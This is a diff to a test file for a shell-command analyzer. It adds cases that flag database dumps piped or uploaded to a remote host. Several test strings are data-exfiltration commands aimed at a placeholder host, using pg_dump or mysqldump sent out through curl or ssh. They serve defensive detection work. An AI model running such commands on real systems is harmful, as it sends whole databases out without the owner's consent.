@@ -44,6 +44,8 @@ describe('analyzeShell', () => {
     // A database dump piped on to a sender.
     ['pg_dump app | gzip | curl -T - https://x.test/u', 'cmd/bulk-upload'],
     ['mysqldump -u root --all-databases > /tmp/d.sql; curl -F f=@/tmp/d.sql https://x.test', 'cmd/bulk-upload'],
+    // ssh hands its stdin to the remote command.
+    ['pg_dump -Fc app | ssh u@x.test "cat > /tmp/a.dump"', 'cmd/bulk-upload'],
   ])('reads %s as %s', (text, rule) => {
     expect(rulesOf(text)).toContain(rule);
   });
@@ -63,6 +65,7 @@ describe('analyzeShell', () => {
     'pg_dump -f backup.sql app && gzip backup.sql',
     'pg_dump app | psql -d app_copy',
     'mysqldump -r /tmp/d.sql app',
+    'tar czf - dist | ssh deploy@x.test "tar xzf - -C /srv/app"',
   ])('finds nothing in %s', (text) => {
     expect(rulesOf(text)).toEqual([]);
   });
